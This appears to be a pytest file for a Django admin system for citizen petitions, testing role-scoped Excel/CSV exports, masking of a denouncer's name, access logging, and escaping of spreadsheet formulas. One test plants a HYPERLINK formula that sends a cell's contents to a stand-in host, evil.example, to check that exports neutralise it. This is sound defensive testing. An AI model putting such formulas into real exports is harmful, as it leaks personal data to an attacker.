"""Lists exported from the desk: the selected rows the user may see, a denouncer masked
for those not cleared, in Excel and CSV."""

import io

import openpyxl
from django.urls import reverse
from tiep_cong_dan.doctype.petition.constants import PetitionKind

from ..conftest import make_citizen, make_petition, new_unit


def test_export_follows_scope_and_masking(placed_petitions, role_users, login):
    dk = new_unit("05977")
    denunciation = make_petition(
        dk, make_citizen(dk, "Lương Văn Cường", "020080000093"), kind=PetitionKind.DENUNCIATION
    )
    url = reverse("admin:tiep_cong_dan_petition_changelist")
    chosen = [denunciation.pk, placed_petitions["dongkinh"].pk, placed_petitions["kylua"].pk]
    board = login("canbo").post(url, {"action": "export_excel", "_selected_action": chosen})
    sheet = openpyxl.load_workbook(io.BytesIO(board.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 4 and "Lương Văn Cường" in str(rows)
    commune = login("xa_dongkinh").post(url, {"action": "export_csv", "_selected_action": chosen})
    assert commune["Content-Type"].startswith("text/csv")
    text = commune.content.decode("utf-8-sig")
    assert placed_petitions["dongkinh"].registration_number in text
    assert placed_petitions["kylua"].registration_number not in text  # outside the commune
    assert denunciation.registration_number in text and "Lương Văn Cường" not in text


def test_every_document_list_exports_its_own_columns_within_scope(role_users, login):
    import datetime

    from tiep_cong_dan.doctype.bridge_point.models import BridgePoint
    from tiep_cong_dan.doctype.reception_session.models import ReceptionSession
    from tiep_cong_dan.doctype.reception_session.services import create_session
    from tiep_cong_dan.scheduling.agenda import build_agenda

    from ..scheduling.test_agenda import _session
    from ..workflow.conftest import approved_petitions

    approved_petitions(role_users, count=1)  # a citizen of Đông Kinh
    heard_here = _session(role_users, datetime.date(2026, 3, 16))
    build_agenda(heard_here, by=role_users["canbo"])
    elsewhere = create_session(
        ReceptionSession(
            kind="periodic",
            date=datetime.date(2026, 4, 15),
            presiding_official="Phó Chủ tịch UBND tỉnh",
            host_bridge_point=BridgePoint.objects.get(code="LS-TSTCD"),
        )
    )
    url = reverse("admin:tiep_cong_dan_receptionsession_changelist")
    chosen = {"action": "export_excel", "_selected_action": [heard_here.pk, elsewhere.pk]}
    response = login("canbo").post(url, chosen)
    assert 'filename="ky-tiep-cong-dan-' in response["Content-Disposition"]
    board = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header, *rows = list(board.iter_rows(values_only=True))
    assert header[:2] == ("Ngày", "Loại") and header[-1] == "Trạng thái"
    assert sorted(r[0].date() for r in rows) == [heard_here.date, elsewhere.date]
    assert {r[-1] for r in rows} == {"Dự thảo"}  # the state's name, not its code
    commune = login("xa_dongkinh").post(url, chosen)
    commune_rows = list(openpyxl.load_workbook(io.BytesIO(commune.content)).active.values)[1:]
    assert [r[0].date() for r in commune_rows] == [heard_here.date]  # only its own
    points = reverse("admin:tiep_cong_dan_bridgepoint_changelist")
    host = BridgePoint.objects.get(code="LS-TSTCD")
    csv_text = (
        login("kythuat")
        .post(points, {"action": "export_csv", "_selected_action": [host.pk]})
        .content.decode("utf-8-sig")
    )
    assert csv_text.splitlines()[1].startswith("LS-TSTCD,") and "Có" in csv_text


def test_a_citizen_export_is_a_logged_read_of_their_personal_data(placed_petitions, login):
    from tiep_cong_dan.access.models import ConfidentialAccess

    citizen = placed_petitions["dongkinh"].citizen
    url = reverse("admin:tiep_cong_dan_citizen_changelist")
    before = set(ConfidentialAccess.objects.values_list("pk", flat=True))
    chosen = [citizen.pk, placed_petitions["kylua"].citizen.pk]
    response = login("xa_dongkinh").post(url, {"action": "export_csv", "_selected_action": chosen})
    lines = response.content.decode("utf-8-sig").splitlines()
    assert len(lines) == 2 and citizen.id_number in lines[1]  # Kỳ Lừa is outside
    entry = ConfidentialAccess.objects.exclude(pk__in=before).get(path=url)
    assert entry.kind == "personal" and entry.object_ids == str(citizen.pk)
    assert "id_number" in entry.fields and entry.user.username == "xa_dongkinh"


def test_list_exports_write_formulas_as_text(role_users, login):
    # given a citizen whose address and name were typed as spreadsheet formulas
    import zipfile

    dk = new_unit("05977")
    formula = '=HYPERLINK("http://evil.example/?x="&C2,"Xem")'
    citizen = make_citizen(dk, "@SUM(1,2)", "020090000061")
    citizen.address = formula
    citizen.save()
    url = reverse("admin:tiep_cong_dan_citizen_changelist")
    chosen = {"_selected_action": [citizen.pk]}
    # when the Board exports it to Excel and to CSV
    board = login("canbo")
    excel = board.post(url, {**chosen, "action": "export_excel"}).content
    text = board.post(url, {**chosen, "action": "export_csv"}).content.decode("utf-8-sig")
    # then the workbook holds no formula and both files show the text behind a quote
    with zipfile.ZipFile(io.BytesIO(excel)) as package:
        assert "<f>" not in package.read("xl/worksheets/sheet1.xml").decode()
    row = list(openpyxl.load_workbook(io.BytesIO(excel)).active.values)[1]
    assert row[0] == "'@SUM(1,2)" and "'" + formula in row
    assert "'@SUM(1,2)" in text and "'=HYPERLINK(" in text and "\n=" not in text
